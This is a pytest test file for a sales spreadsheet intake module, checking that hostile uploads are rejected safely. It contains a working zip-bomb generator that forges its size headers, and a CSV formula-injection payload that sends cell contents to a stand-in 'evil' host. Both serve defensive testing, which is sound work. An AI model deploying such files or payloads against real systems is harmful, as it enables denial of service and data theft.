"""Files made to do harm end in a reason, fast, and leave this process alone."""

import struct
import time
import zipfile
import zlib

import pytest
from sheets import TODAY, csv_sheet, rewritten, xlsx_sheet

from sales_core.intake.prepare import prepare_file


def ends(path) -> str:
    started = time.monotonic()
    (sheet,) = prepare_file(path, today=TODAY)
    assert time.monotonic() - started < 25
    assert sheet.table is None
    return sheet.issues[0].code


def test_a_cell_in_the_far_corner_asks_for_more_memory_than_there_is(tmp_path):
    path = xlsx_sheet(tmp_path, ["Customer", "Amount"], ["A", 77])
    rewritten(path, "xl/worksheets/sheet1.xml", b'<row r="2"', b'<row r="1048576"')
    rewritten(path, "xl/worksheets/sheet1.xml", b'r="B2"', b'r="XFD1048576"')
    assert ends(path) == "too_much_memory"


def bomb(path, told: int | None = None):
    """A workbook whose sheet unzips to 600 MB; `told` is what the archive claims."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(600)) + squeeze.flush()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", packed)
    raw = bytearray(path.read_bytes())
    entry = raw.index(b"PK\x01\x02", raw.index(b"PK\x01\x02") + 1)
    local = raw.index(b"PK\x03\x04", 4)
    raw[entry + 10 : entry + 12] = raw[local + 8 : local + 10] = struct.pack("<H", 8)
    raw[entry + 24 : entry + 28] = struct.pack("<I", told or 600_000_000)
    path.write_bytes(raw)
    return path


@pytest.mark.parametrize("told", [None, 500])
def test_a_zip_bomb_is_refused_also_when_it_lies_about_its_size(tmp_path, told):
    assert ends(bomb(tmp_path / "bomb.xlsx", told)) == "unzips_too_large"


def test_a_sheet_of_a_hundred_thousand_columns_is_refused(tmp_path):
    assert ends(csv_sheet(tmp_path, ",".join(["a"] * 100_000), ",".join(["1"] * 100_000))) == "too_many_columns"


@pytest.mark.parametrize("seed", range(6))
def test_a_workbook_with_broken_bytes_never_raises(tmp_path, seed):
    path = xlsx_sheet(tmp_path, ["Customer", "Order Date", "Amount"], ["A", "2026-01-01", 1])
    raw = bytearray(path.read_bytes())
    for step in range(25):
        raw[(seed * 7919 + step * 104_729) % len(raw)] = (seed * 31 + step * 17) % 256
    path.write_bytes(raw)
    (sheet,) = prepare_file(path, today=TODAY)
    assert sheet.issues or sheet.table is not None


def test_a_formula_in_a_text_file_stays_text(tmp_path):
    path = csv_sheet(
        tmp_path, "Order Date,Customer,Amount", '2026-01-01,"=HYPERLINK(""http://evil/?""&A1,""x"")",5', name="o.csv"
    )
    (sheet,) = prepare_file(path, today=TODAY)
    assert sheet.table["customer"].to_pylist() == ['=HYPERLINK("http://evil/?"&A1,"x")']
